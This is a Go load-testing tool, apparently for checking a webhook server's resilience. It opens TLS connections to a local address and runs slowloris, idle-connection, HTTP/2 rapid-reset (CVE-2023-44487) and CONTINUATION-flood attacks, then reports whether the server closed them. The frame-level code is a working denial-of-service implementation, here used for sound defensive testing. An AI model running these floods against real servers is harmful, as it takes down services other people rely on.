// abuse holds or abuses connections to a TLS webhook for scripts/soak.sh, and reports what
// the server did to it. Modes:
//
//	idle         -n N TLS connections (HTTP/2 by ALPN) that send nothing after the preface
//	slowloris    -n N HTTP/1.1 connections that send request headers one byte at a time
//	rapid-reset  one HTTP/2 connection opening and resetting streams as fast as it can
//	             (CVE-2023-44487)
//	continuation one HTTP/2 connection sending a HEADERS frame and then CONTINUATION
//	             frames without end (CVE-2024-27316 class)
//
// It runs for -d, then prints one line: the mode, how many connections the server closed,
// and, for the HTTP/2 abusers, how many frames were sent before the server cut it off.
package main

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

var (
	addr   = flag.String("addr", "127.0.0.1:8443", "server address")
	caFile = flag.String("ca", "", "CA certificate (PEM)")
	mode   = flag.String("mode", "idle", "idle, slowloris, rapid-reset or continuation")
	count  = flag.Int("n", 1, "connections (idle, slowloris)")
	dur    = flag.Duration("d", 30*time.Second, "how long to run")
)

func tlsConfig(proto string) *tls.Config {
	pem, err := os.ReadFile(*caFile)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	return &tls.Config{RootCAs: pool, ServerName: "localhost", NextProtos: []string{proto}}
}

// frame writes one HTTP/2 frame.
func frame(w io.Writer, typ, flags byte, stream uint32, payload []byte) error {
	var h [9]byte
	h[0], h[1], h[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	h[3], h[4] = typ, flags
	binary.BigEndian.PutUint32(h[5:], stream&0x7fffffff)
	if _, err := w.Write(h[:]); err != nil {
		return err
	}
	_, err := w.Write(payload)
	return err
}

// headerBlock is a minimal HPACK block: POST https /validate localhost.
func headerBlock() []byte {
	b := []byte{0x83, 0x87} // :method POST, :scheme https (static table)
	b = append(b, 0x04, byte(len("/validate")))
	b = append(b, "/validate"...)
	b = append(b, 0x01, byte(len("localhost")))
	b = append(b, "localhost"...)
	return b
}

// h2 opens an HTTP/2 connection: TLS, preface, empty SETTINGS.
func h2() (*tls.Conn, error) {
	c, err := tls.Dial("tcp", *addr, tlsConfig("h2"))
	if err != nil {
		return nil, err
	}
	if _, err := c.Write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")); err != nil {
		return nil, err
	}
	if err := frame(c, 0x4, 0, 0, nil); err != nil {
		return nil, err
	}
	go io.Copy(io.Discard, c) // the server's frames
	return c, nil
}

func main() {
	flag.Parse()
	deadline := time.Now().Add(*dur)
	switch *mode {
	case "idle", "slowloris":
		var closed, opened int64
		var wg sync.WaitGroup
		for i := 0; i < *count; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				var c *tls.Conn
				var err error
				if *mode == "idle" {
					c, err = h2()
				} else {
					c, err = tls.Dial("tcp", *addr, tlsConfig("http/1.1"))
				}
				if err != nil {
					atomic.AddInt64(&closed, 1)
					return
				}
				atomic.AddInt64(&opened, 1)
				defer c.Close()
				req := []byte("POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n")
				for i := 0; time.Now().Before(deadline); i++ {
					if *mode == "slowloris" {
						if _, err := c.Write(req[i%len(req) : i%len(req)+1]); err != nil {
							atomic.AddInt64(&closed, 1)
							return
						}
						time.Sleep(5 * time.Second)
					} else {
						c.SetReadDeadline(time.Now().Add(time.Second))
						var b [1]byte
						if _, err := c.Read(b[:]); err != nil && !isTimeout(err) {
							atomic.AddInt64(&closed, 1)
							return
						}
					}
				}
			}()
			time.Sleep(time.Millisecond)
		}
		wg.Wait()
		fmt.Printf("%s opened=%d closed_by_server=%d\n", *mode, opened, closed)
	case "rapid-reset", "continuation":
		c, err := h2()
		if err != nil {
			fmt.Printf("%s error=%v\n", *mode, err)
			return
		}
		defer c.Close()
		var sent int64
		cut := false
		block := headerBlock()
		junk := make([]byte, 1000)
		for i := range junk {
			junk[i] = 0x40 // literal header with incremental indexing, new name...
		}
		for stream := uint32(1); time.Now().Before(deadline); stream += 2 {
			var err error
			if *mode == "rapid-reset" {
				if err = frame(c, 0x1, 0x4, stream, block); err == nil {
					err = frame(c, 0x3, 0, stream, []byte{0, 0, 0, 8}) // RST_STREAM CANCEL
				}
			} else {
				if stream == 1 {
					err = frame(c, 0x1, 0, 1, block) // HEADERS without END_HEADERS
				}
				for err == nil && time.Now().Before(deadline) {
					err = frame(c, 0x9, 0, 1, junk) // CONTINUATION, never the last
					sent++
				}
			}
			if err != nil {
				cut = true
				break
			}
			sent++
		}
		fmt.Printf("%s frames_sent=%d cut_off_by_server=%v\n", *mode, sent, cut)
	default:
		fmt.Fprintln(os.Stderr, "unknown mode", *mode)
		os.Exit(2)
	}
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}
